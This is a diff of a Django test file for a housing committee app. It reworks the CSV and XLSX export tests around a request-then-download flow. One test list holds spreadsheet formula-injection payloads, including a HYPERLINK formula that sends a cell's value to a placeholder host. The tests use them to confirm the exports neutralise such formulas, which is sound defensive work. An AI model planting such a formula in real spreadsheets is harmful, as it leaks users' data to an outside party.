@@ -215,7 +215,7 @@ COMMITTEE_EXPORT = {
 }
 # role -> the same for the call's export: the secretariat and the national observers only
 CALL_EXPORT = {
-    role: expected if role in {"secretariat", "observer", "anonymous"} else 404
+    role: expected if role in {"secretariat", "observer", "anonymous"} else 403
     for role, expected in COMMITTEE_EXPORT.items()
 }
 
@@ -240,6 +240,23 @@ def export_rows(response, extension: str) -> list[list]:
     return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
 
 
+@pytest.fixture
+def exported(login, django_capture_on_commit_callbacks):
+    """The file a user gets by asking for an export (its task runs once the request is saved) and downloading it;
+    the answer to the request when it is refused."""
+
+    def export(user, name: str, key, extension: str):
+        client = login(user)
+        with django_capture_on_commit_callbacks(execute=True):
+            response = client.post(reverse(name, args=[key]), {"format": extension})
+        if response.status_code != 302 or not response["Location"].startswith("/exports/"):
+            return response
+        assert "Prêt" in client.get(response["Location"]).content.decode()
+        return client.get(response["Location"] + "fichier/")
+
+    return export
+
+
 def shown_opinions(rows: list[list]) -> dict[str, tuple]:
     header, *rows = rows
     column = {name: index for index, name in enumerate(header)}
@@ -260,10 +277,10 @@ EXPORTS = {
 @pytest.mark.parametrize("extension", ["xlsx", "csv"])
 @pytest.mark.parametrize("export", EXPORTS)
 @pytest.mark.parametrize("role", COMMITTEE_EXPORT)
-def test_export(working, login, role, export, extension):
+def test_export(working, exported, role, export, extension):
     table, name, key, slug = EXPORTS[export]
     expected = table[role]
-    response = login(working.users[role]).get(reverse(name, args=[key(working), extension]))
+    response = exported(working.users[role], name, key(working), extension)
     if not isinstance(expected, dict):
         check_refusal(response, expected)
         return
@@ -273,9 +290,9 @@ def test_export(working, login, role, export, extension):
 
 
 @pytest.mark.parametrize("extension", ["xlsx", "csv"])
-def test_export_of_a_dossier_awaiting_its_opinion(cast, login, extension):
+def test_export_of_a_dossier_awaiting_its_opinion(cast, exported, extension):
     DossierFactory(committee=cast.committee, title=PENDING_TITLE)
-    response = login(cast.users["member"]).get(reverse("committee_export", args=[cast.committee.uuid, extension]))
+    response = exported(cast.users["member"], "committee_export", cast.committee.uuid, extension)
     opinions = shown_opinions(export_rows(response, extension))
     assert opinions[PENDING_TITLE] == HIDDEN
     assert set(opinions) == {*BOTH, PENDING_TITLE}
@@ -287,14 +304,14 @@ FORMULAS = ['=HYPERLINK("http://x?leak="&F3,"Voir")', "+1+1", "-2+3", "@SUM(1)",
 
 @pytest.mark.parametrize("formula", FORMULAS)
 @pytest.mark.parametrize("export", EXPORTS)
-def test_an_export_writes_every_text_as_text(cast, login, export, formula):
+def test_an_export_writes_every_text_as_text(cast, exported, export, formula):
     """OWASP's "CSV injection": the XLSX cell is a text (not a formula), marked with the quote prefix; the CSV
     cell starts with a quote. Numbers stay numbers."""
     Dossier.objects.filter(pk=cast.dossier.pk).update(title=formula)
     Organisation.objects.filter(pk=cast.dossier.lead_landlord_id).update(name=f"{formula} HLM")
     _, name, key, _ = EXPORTS[export]
-    client = login(cast.users["secretariat"])
-    sheet = load_workbook(io.BytesIO(body(client.get(reverse(name, args=[key(cast), "xlsx"]))))).active
+    secretariat = cast.users["secretariat"]
+    sheet = load_workbook(io.BytesIO(body(exported(secretariat, name, key(cast), "xlsx")))).active
     header = [cell.value for cell in sheet[1]]
     row = next(row for row in sheet.iter_rows(min_row=2) if row[header.index("N°")].value == cast.dossier.number)
     for column in ("Projet", "Bailleur social"):
@@ -303,17 +320,16 @@ def test_an_export_writes_every_text_as_text(cast, login, export, formula):
         # A carriage return is written escaped (OOXML's _x000D_), which Excel reads back and openpyxl does not.
         assert cell.value.replace("_x000D_", "\r").removesuffix(" HLM") == formula
     assert row[header.index("Ménages")].data_type == "n"
-    rows = export_rows(client.get(reverse(name, args=[key(cast), "csv"])), "csv")
+    rows = export_rows(exported(secretariat, name, key(cast), "csv"), "csv")
     line = next(line for line in rows if line[rows[0].index("N°")] == str(cast.dossier.number))
     assert line[rows[0].index("Projet")] == f"'{formula}"
     assert line[rows[0].index("Bailleur social")] == f"'{formula} HLM"
 
 
 @pytest.mark.parametrize("title", ["Projet = accompagnement", "Ménages à -20 %", "'Chez soi' d'abord"])
-def test_an_export_leaves_other_texts_as_they_are(cast, login, title):
+def test_an_export_leaves_other_texts_as_they_are(cast, exported, title):
     Dossier.objects.filter(pk=cast.dossier.pk).update(title=title)
-    url = reverse("committee_export", args=[cast.committee.uuid, "csv"])
-    rows = export_rows(login(cast.users["secretariat"]).get(url), "csv")
+    rows = export_rows(exported(cast.users["secretariat"], "committee_export", cast.committee.uuid, "csv"), "csv")
     assert title in [line[rows[0].index("Projet")] for line in rows]
 
 
@@ -323,8 +339,6 @@ def test_an_export_leaves_other_texts_as_they_are(cast, login, title):
 DOWNLOADS = {
     "joint_opinion_download": (lambda cast: cast.committee.joint_opinions.get().uuid, ["txt", "PDF", "xlsx", "html"]),
     "committee_draft_download": (lambda cast: cast.committee.uuid, ["txt", "DOCX", "csv", "pdf.zip"]),
-    "committee_export": (lambda cast: cast.committee.uuid, ["txt", "XLSX", "pdf", "docx"]),
-    "call_export": (lambda cast: cast.committee.call.uuid, ["txt", "CSV", "pdf", "json"]),
 }
 
 
